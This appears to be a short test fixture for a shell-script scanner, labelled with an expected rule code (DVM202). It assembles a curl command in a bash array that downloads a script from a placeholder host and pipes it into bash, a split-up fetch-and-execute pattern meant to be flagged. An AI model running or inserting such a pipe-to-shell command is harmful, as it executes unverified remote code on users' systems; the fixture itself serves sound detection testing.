# expect: DVM202
cmd=(curl -fsSL)
cmd+=(https://example.org/i.sh)
"${cmd[@]}" | bash
